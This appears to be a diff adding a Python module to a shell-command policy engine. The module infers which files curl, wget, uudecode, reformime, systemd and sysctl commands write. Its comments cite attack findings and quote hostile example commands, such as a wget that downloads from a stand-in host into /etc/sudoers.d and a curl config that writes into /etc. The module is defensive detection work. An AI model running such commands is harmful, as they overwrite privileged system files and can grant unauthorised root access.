@@ -1,0 +1,183 @@
+"""Files a program writes where something the bastion does not read names them: curl's and
+wget's downloads (a URL's name, a config file, wget's `-e` commands, curl's `-w` format), the
+name stored in a uuencoded file, reformime's attachments, and the configuration operands of
+systemd-tmpfiles, systemd-sysusers, systemd-sysctl and sysctl."""
+
+from __future__ import annotations
+
+import re
+
+from bastion.command_control.policy.options import _after_options, _options, _permuted
+from bastion.command_control.policy.paths import PathArg
+from bastion.command_control.policy.program_writes import _in_folder
+from bastion.command_control.policy.words import _GLOB_CHARS, _Word
+
+# found after outside attack G (finding 5): curl's and wget's files in a directory an option names.
+_CURL_OUTPUT = frozenset({"-o", "--output"})
+_CURL_REMOTE_NAME = frozenset({"-O", "--remote-name", "--remote-name-all", "-J",
+                               "--remote-header-name"})
+
+
+def _url_name(word: _Word) -> str:
+    """The file name curl -O and wget give a download: the URL's last part, or any name."""
+    value = word.value
+    if value is None or "?" in value or "#" in value or _GLOB_CHARS.search(value):
+        return "*"
+    name = value.split("://", 1)[-1].rstrip("/").rsplit("/", 1)[-1]
+    return name if "/" in value.split("://", 1)[-1] and name not in ("", ".", "..") else "*"
+
+
+# found after outside attack O (finding 8): a config (`-K -`: `output = "/etc/x"`) names any
+# file, and a -w format writes where `%output{FILE}` says (`%output{>>FILE}` appends).
+_CURL_CONFIG = frozenset({"-K", "--config"})
+_CURL_WRITE_OUT = frozenset({"-w", "--write-out"})
+_CURL_FORMAT_OUTPUT = re.compile(r"%output\{(?:>>)?([^}]*)\}")
+
+
+def _curl_writes(words: list[_Word]) -> list[PathArg]:
+    """curl -o FILE (in --output-dir DIR when FILE is relative), -O (the URL's name, in DIR),
+    -w '%output{FILE}', and any file with -K CONFIG or a -w format read from a file (`@F`)."""
+    found = _after_options(words, frozenset({"--output-dir"}))
+    folder = _Word(found[-1].text, found[-1].text) if found and found[-1].kind != "unknown" else (
+        _Word(None, found[-1].text) if found else None)
+    written = [p if folder is None or p.text.startswith(("/", "~")) or p.kind == "unknown" or
+               p.text == "-" else _in_folder(folder, p.text)
+               for p in _after_options(words, _CURL_OUTPUT)]
+    values = [w.value or "" for w in words[1:]]
+    if any(v in _CURL_REMOTE_NAME or (v.startswith("--remote-n") and "=" not in v) or (
+            v.startswith("-") and not v.startswith("--") and "O" in v[1:] and v[1:].isalpha())
+           for v in values):
+        urls = [w for w in words[1:] if w.value is None or "://" in w.value]
+        written += [_in_folder(folder, _url_name(url)) for url in urls or [_Word(None, "")]]
+    written += [PathArg(f"(the files curl's config {p.text} names)", "unknown")
+                for p in _after_options(words, _CURL_CONFIG)]
+    for form in _after_options(words, _CURL_WRITE_OUT):
+        if form.kind == "unknown" or form.text.startswith("@"):
+            written.append(PathArg("(the files a -w format read at run time names)", "unknown"))
+        else:
+            written += [PathArg(name) for name in _CURL_FORMAT_OUTPUT.findall(form.text)]
+    return [p for p in written if p.text != "-"]
+
+
+# found after outside attack O (finding 8): wget's startup-file commands given with -e (any
+# case, `_` and `-` ignored, as wget reads them): those that name a file it writes, one that
+# runs a program, and those known to do neither. Any other, or a --config file, is unknown.
+_WGET_FILE_OPTIONS = frozenset({"-O", "--output-document", "-o", "--output-file", "-a",
+                                "--append-output", "--save-cookies", "--hsts-file",
+                                "--rejected-log"})
+_WGETRC_FILES = frozenset({"outputdocument", "logfile", "savecookies", "hstsfile", "rejectedlog",
+                           "warcfile", "dirprefix"})
+_WGETRC_HARMLESS = frozenset({
+    "robots", "checkcertificate", "timeout", "connecttimeout", "readtimeout", "dnstimeout",
+    "tries", "wait", "waitretry", "randomwait", "useragent", "header", "quiet", "verbose",
+    "continue", "timestamping", "noclobber", "recursive", "level", "noparent", "httpproxy",
+    "httpsproxy", "ftpproxy", "noproxy", "useproxy", "limitrate", "retryconnrefused",
+    "inet4only", "inet6only", "progress", "serverresponse", "maxredirect", "secureprotocol",
+    "compression", "showprogress",
+})  # fmt: skip
+
+
+def _wget_writes(words: list[_Word]) -> tuple[list[PathArg], list[str | None]]:
+    """wget -O/-o/-a FILE, --save-cookies, --hsts-file, --rejected-log, --warc-file (FILE and
+    its suffixes); without -O, each download's name in -P DIR (or here); the files and the
+    program (`use_askpass`) of each -e COMMAND; anything with --config FILE."""
+    written = _after_options(words, _WGET_FILE_OPTIONS) + [
+        p if p.kind == "unknown" else p._replace(text=f"{p.text}*", kind="pattern")
+        for p in _after_options(words, frozenset({"--warc-file"}))]  # F.warc.gz, F.cdx
+    codes: list[str | None] = [p.text for p in _after_options(words, frozenset({"--use-askpass"}))]
+    folder: _Word | None = None
+    for command in _after_options(words, frozenset({"-e", "--execute"})):
+        name, _, value = command.text.partition("=")
+        key = name.strip().lower().replace("_", "").replace("-", "")
+        value = value.strip()
+        if command.kind == "unknown" or key not in _WGETRC_HARMLESS | _WGETRC_FILES | {"useaskpass"}:
+            written.append(PathArg(f"(what the wget command {command.text} writes)", "unknown"))
+            codes.append(None)
+        elif key == "useaskpass":
+            codes.append(value)
+        elif key == "dirprefix":
+            folder = _Word(value, value)
+        elif key in _WGETRC_FILES:
+            written.append(PathArg(value, "exact", value.startswith("~")))
+    if _after_options(words, frozenset({"--config"})):
+        written.append(PathArg("(the files a wget config names)", "unknown"))
+        codes.append(None)
+    document = _after_options(words, frozenset({"-O", "--output-document"})) or any(
+        p.text.lower().replace("_", "").replace("-", "").startswith("outputdocument=")
+        for p in _after_options(words, frozenset({"-e", "--execute"})))
+    if not document:
+        prefix = _after_options(words, frozenset({"-P", "--directory-prefix"}))
+        if prefix:
+            folder = _Word(prefix[-1].text, prefix[-1].text) if prefix[-1].kind != "unknown" \
+                else _Word(None, prefix[-1].text)
+        if folder is not None:
+            written.append(_in_folder(folder, "**"))
+        else:  # each URL's name here (attack O: `cd /etc/sudoers.d && wget http://h/x`)
+            written += [_in_folder(None, _url_name(w)) for w in words[1:]
+                        if w.value is None or "://" in w.value]
+    return [p for p in written if p.text != "-"], codes
+
+
+# found after outside attack O (finding 8): programs that write the file an encoded or
+# configured input names, which the bastion cannot read.
+
+
+def _uudecode_writes(words: list[_Word]) -> list[PathArg]:
+    """uudecode -o FILE; without -o the name stored in the encoded file (any file: unknown,
+    as `gunzip -N` writes the name stored in its archive)."""
+    found = _after_options(words, frozenset({"-o", "--output-file"}))
+    return found or [PathArg("(the name the encoded file holds)", "unknown")]
+
+
+def _reformime_writes(words: list[_Word]) -> tuple[list[PathArg], list[str | None]]:
+    """reformime -x PREFIX writes each attachment as PREFIX and its name; -X PROG runs PROG
+    on each (code known only at run time)."""
+    written = [PathArg(f"{p.text}*", "pattern", p.tilde) if p.kind != "unknown" else p
+               for p in _after_options(words, frozenset({"-x"}))]
+    return written, [None] if any(w.value == "-X" for w in words[1:]) else []
+
+
+# Only options certain to take a value: one listed wrongly would hide the configuration after it.
+_SYSTEMD_CONFIG = _options("", ("--prefix", "--exclude-prefix", "--root", "--image", "--replace",
+                                "--image-policy"))
+_SYSCTL = _options("r", ("--pattern",), attached="pf", flags=("--load",))
+# What a configuration each program is given writes: the bastion reads no such file (one on
+# stdin, /dev//stdin, /dev/fd/3, or one written by an earlier line), so any may name any file.
+_CONFIG_WRITES = {
+    "systemd-tmpfiles": "(the files the configuration creates, cleans or removes)",
+    "systemd-sysusers": "(the users and groups the configuration makes: /etc/passwd, "
+                        "/etc/shadow, /etc/group, /etc/gshadow)",
+    "systemd-sysctl": "(the kernel settings the configuration writes, under /proc/sys)",
+    "sysctl": "(the kernel settings the configuration writes, under /proc/sys)",
+}
+
+
+def _config_writes(name: str, words: list[_Word]) -> list[PathArg]:
+    """found after outside attack O (finding 6): `systemd-tmpfiles --create CONFIG`,
+    `systemd-sysusers CONFIG` (`--inline LINE`), `systemd-sysctl CONFIG`, `sysctl -p CONFIG`
+    write whatever CONFIG says: a write of a file known only at run time, whatever the name
+    of CONFIG (`-`, `/dev//stdin`, `/tmp/t.conf`). Without one they read the system's own
+    directories (`systemd-tmpfiles --clean`, `sysctl --system`). `sysctl KEY=VALUE` writes
+    /proc/sys/KEY. `--cat-config`, `--dry-run` and `--help` write nothing."""
+    spec = _SYSCTL if name == "sysctl" else _SYSTEMD_CONFIG
+    permuted = _permuted(words, 1, spec)
+    if permuted is None:
+        return [PathArg(_CONFIG_WRITES[name], "unknown")]
+    found, operands = permuted
+    options = {option for option, _ in found}
+    if options & {"--cat-config", "--dry-run", "--help", "-h", "--version"}:
+        return []
+    if name != "sysctl":
+        return [PathArg(_CONFIG_WRITES[name], "unknown")] if operands else []
+    loads = [argument for option, argument in found if option in ("-p", "-f", "--load")]
+    if loads and (operands or any(argument is not None for argument in loads)):
+        return [PathArg(_CONFIG_WRITES[name], "unknown")]  # `-p F`, `-pF`, `--load=F`
+    written: list[PathArg] = []
+    for operand in operands:
+        if operand.value is None:
+            written.append(PathArg(operand.text, "unknown"))
+        elif "=" in operand.value:
+            key = operand.value.partition("=")[0].strip()
+            key = key if "/" in key else key.replace(".", "/")
+            written.append(PathArg(f"/proc/sys/{key.lstrip('/')}"))
+    return written
